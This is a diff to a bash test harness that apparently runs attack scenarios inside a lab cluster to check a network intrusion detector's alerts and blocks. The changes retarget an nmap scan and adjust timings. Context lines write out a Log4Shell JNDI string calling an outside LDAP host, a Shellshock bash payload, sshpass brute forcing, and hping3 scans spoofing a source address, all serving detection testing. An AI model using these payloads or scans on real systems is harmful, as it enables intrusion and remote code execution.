@@ -39,7 +39,7 @@ SCENARIOS=(
     "ssh-guess|brute_force|10.244.1.66|ssh with sshpass, 20 passwords against sshd (4 at once, one try per connection)"
     "exploit|signature|10.244.1.66|curl with Log4Shell, Shellshock and traversal strings"
     "beacon|beaconing|10.244.1.66|curl to an external address every 2 s for 40 s"
-    "scan-blocked|port_scan|10.244.1.66|with --enforce: nmap -sT after a normal request; time until the scanner's traffic is dropped"
+    "scan-blocked|port_scan|10.244.1.66|with --enforce: nmap -sT of a fresh pod after a normal request; time until the scanner's traffic is dropped"
     "spoofed-scan|port_scan|10.244.2.53|with --enforce: hping3 SYNs to 300 ports spoofing the cluster DNS pod's address; nothing may be blocked"
 )
 
@@ -236,7 +236,7 @@ attack() {
                         root@10.244.2.30 true; done' "$w" &
                 guessers+=($!)
             done
-            wait "${guessers[@]}" ;;
+            wait "${guessers[@]}" || true ;;
         exploit)
             nw_exec $A curl -s -o /dev/null -A '${jndi:ldap://198.51.100.10:1389/a}' http://10.244.2.20/
             nw_exec $A curl -s -o /dev/null -A '() { :; }; /bin/bash -c "id"' http://10.244.2.20/cgi-bin/status
@@ -248,7 +248,9 @@ attack() {
             probe n1-client http://10.244.2.20/ "$OUT/probe-benign.log"; local benign=$PROBE_PID
             sleep 1
             now_ms >"$OUT/scan-blocked.start"
-            nw_exec $A nmap -sT -Pn -n -T4 -p 1-1000 10.244.1.20 || true
+            # A pod no other scenario scans: a scanner already reported against a target is not
+            # reported again within the detector's cooldown, and no report means no block.
+            nw_exec $A nmap -sT -Pn -n -T4 -p 1-1000 10.244.2.40 || true
             # Wait out the block's 20 s TTL, and a little more: the drop must lift by itself.
             sleep 26
             nw_stop "$attacker"; nw_stop "$benign" ;;
@@ -276,8 +278,9 @@ for s in "${SCENARIOS[@]}"; do
     say "scenario $name"
     start=$(now_ms)
     attack "$name" >>"$OUT/attacks.log" 2>&1 || say "  $name: the attack tool failed (see $OUT/attacks.log)"
-    # Let the detections of this attack arrive before the next one starts.
-    sleep 6
+    # Let the detections of this attack arrive before the next one starts. The aggregator
+    # judges the exfiltration from its flow's record, 10 s after the connection closes.
+    if [[ $name == http-exfil ]]; then sleep 25; else sleep 6; fi
     printf '%s\t%s\t%s\t%s\t%s\n' "$name" "$types" "$actors" "$start" "$(now_ms)" >>"$OUT/scenarios.tsv"
 done
 
